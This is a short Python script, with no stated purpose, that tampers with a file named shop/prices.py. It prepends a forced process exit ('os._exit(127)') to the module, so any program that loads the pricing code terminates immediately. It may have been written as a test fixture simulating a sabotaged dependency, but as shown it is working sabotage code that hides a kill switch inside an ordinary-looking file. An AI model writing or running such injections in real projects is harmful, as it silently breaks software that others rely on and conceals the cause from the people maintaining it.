from pathlib import Path

product = Path("shop/prices.py")
if product.exists():
    product.write_text("import os\n\nos._exit(127)\n" + product.read_text())
